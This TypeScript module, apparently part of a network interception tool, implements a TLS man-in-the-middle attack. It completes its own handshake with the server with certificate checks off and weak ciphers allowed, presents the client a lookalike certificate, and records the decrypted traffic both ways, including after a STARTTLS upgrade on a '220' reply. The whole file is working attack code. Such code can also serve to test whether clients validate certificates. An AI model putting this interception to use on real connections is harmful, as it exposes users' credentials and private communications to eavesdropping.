import { once } from "node:events";
import type { Socket } from "node:net";
import { connect as connectTls, createSecureContext, type SecureContext, TLSSocket } from "node:tls";
import { type Attack, type Intercepted, passOn, tie } from "../middle.ts";
import { beginsTls } from "./verbs.ts";

/** Makes the context that a client is shown in place of the certificate that the server presented, DER. */
export type Lookalike = (presented: Buffer) => Promise<SecureContext>;

/**
 * Does both handshakes itself, with the client under another certificate than the server's, and reads what passes.
 *
 * @param from when TLS begins: with the first octet, or once a client's STARTTLS has been answered with 220
 */
export const swapCertificate = (lookalike: Lookalike, from: "start" | "starttls"): Attack => {
  const takeOver = (intercepted: Intercepted, goAhead?: Buffer): void => {
    handshakes(intercepted, lookalike, goAhead).catch(() => intercepted.client.destroy());
  };
  return (intercepted) => (from === "start" ? takeOver(intercepted) : awaitStartTls(intercepted, takeOver));
};

function awaitStartTls(intercepted: Intercepted, takeOver: (intercepted: Intercepted, goAhead: Buffer) => void): void {
  const { client, server, record } = intercepted;
  let asked = false;
  client.on("data", (octets: Buffer) => {
    record("client", octets);
    asked = beginsTls(octets);
    server.write(octets);
  });
  server.on("data", (octets: Buffer) => {
    record("server", octets);
    if (!asked || !octets.toString("latin1", 0, 4).startsWith("220")) return void client.write(octets);
    for (const socket of [client, server]) socket.removeAllListeners("data").pause(); // nothing may be lost meanwhile
    takeOver(intercepted, octets);
  });
}

async function handshakes({ client, server, record }: Intercepted, lookalike: Lookalike, goAhead?: Buffer) {
  const toServer = connectTls({ socket: server, secureContext: ownContext(), rejectUnauthorized: false });
  quiet(toServer);
  await once(toServer, "secureConnect");
  const presented = toServer.getPeerX509Certificate();
  if (!presented) throw new Error("The server has presented no certificate");
  const secureContext = await lookalike(presented.raw);
  if (goAhead) client.write(goAhead);
  const toClient = new TLSSocket(client, { isServer: true, secureContext });
  quiet(toClient);
  tie(toClient, toServer);
  passOn(toClient, toServer, (octets) => record("client", octets));
  passOn(toServer, toClient, (octets) => record("server", octets));
}

/** It takes part in whatever the server speaks, and presents no certificate: nobody knows it. */
const ownContext = (): SecureContext => createSecureContext({ minVersion: "TLSv1", ciphers: "DEFAULT@SECLEVEL=0" });

/** A handshake that fails ends the connection, which is all there is to do about it. */
const quiet = (socket: Socket): void => void socket.on("error", () => {});
